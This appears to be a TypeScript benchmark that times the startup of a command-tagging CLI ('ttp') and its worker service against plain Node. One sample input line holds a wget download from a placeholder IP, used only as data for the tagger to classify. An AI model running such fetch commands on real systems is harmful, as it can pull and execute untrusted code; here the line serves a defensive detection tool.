// SPDX-License-Identifier: AGPL-3.0-or-later
import { loadavg } from 'node:os';
import { resolve } from 'node:path';
import { type Cleanup, temporaryDirectory, withCleanup } from '../cleanup';
import { BenchBroker } from '../pipeline/bench-broker';
import { BenchDatabase } from '../pipeline/bench-database';
import { cpuOfProcesses } from '../process-cpu';
import { machineFacts, printReport } from '../report';
import { SHIPPED_RULES } from '../rule-set';
import { type ServiceOptions, ServiceProcess } from '../service-process';
import { workerSettings } from '../worker-settings';
import { parseStartupOptions } from './startup-options';
import { timeProgram } from './start-program';
import { costRows, figuresOf, type Start, STARTS, type StartTime, type StartTimes } from './summary';

const TTP = 'tools/cli/bin/ttp.mjs';
const LINE = `${JSON.stringify({ id: 'one', commands: ['wget http://192.0.2.1/x'] })}\n`;

type Starts = Readonly<Record<Start, () => StartTime | Promise<StartTime>>>;

/** How long a person waits for `ttp`, and a deployment for a worker with the shipped pack; each beside the least that Node itself takes. */
export async function runStartupBench(args: readonly string[]): Promise<void> {
  const { json, rounds } = parseStartupOptions(args);
  const load = loadavg();
  const times = await withCleanup((cleanup) => timeStarts(rounds, cleanup));
  const notes = [
    `medians of ${rounds} interleaved rounds after one that warms up, on the wall`,
    'the worker: from its start until /readyz says yes, rules from files, its broker up and its SQLite schema there',
    `load average of the machine before the run: ${load.map((value) => value.toFixed(1)).join(' ')}`,
  ];
  printReport({ machine: machineFacts(), notes, costs: costRows(times), figures: figuresOf(times) }, json);
}

async function timeStarts(rounds: number, cleanup: Cleanup): Promise<StartTimes> {
  const starts = await prepareStarts(cleanup);
  const times = new Map(STARTS.map((start): [Start, StartTime[]] => [start, []]));
  for (let round = 0; round <= rounds; round++) {
    for (const [start, taken] of times) {
      const time = await starts[start]();
      if (round > 0) taken.push(time);
    }
  }
  return times;
}

async function prepareStarts(cleanup: Cleanup): Promise<Starts> {
  const directory = temporaryDirectory(cleanup);
  const broker = await BenchBroker.start(cleanup);
  const { raw } = await BenchDatabase.start('sqlite', directory, cleanup);
  const environment = { ...raw.environment, ...workerSettings(broker.url, resolve(SHIPPED_RULES)) };
  return {
    'node -e 0': () => timeProgram(['-e', '0'], { prints: /^$/ }),
    'ttp --help': () => timeProgram([TTP, '--help'], { prints: /^Usage: ttp / }),
    'ttp tag, one line': () => timeProgram([TTP, 'tag'], { input: LINE, prints: /"technique_ids":\["/ }),
    'ttp-worker ready': () => timeWorker({ app: 'ttp-worker', directory, environment }, cleanup),
  };
}

async function timeWorker(options: ServiceOptions, cleanup: Cleanup): Promise<StartTime> {
  const startedMs = performance.now();
  const worker = await ServiceProcess.start(options, cleanup);
  const time = { wallMs: performance.now() - startedMs, cpuMs: cpuOfProcesses([worker.pid]) / 1_000 };
  await worker.stop();
  return time;
}
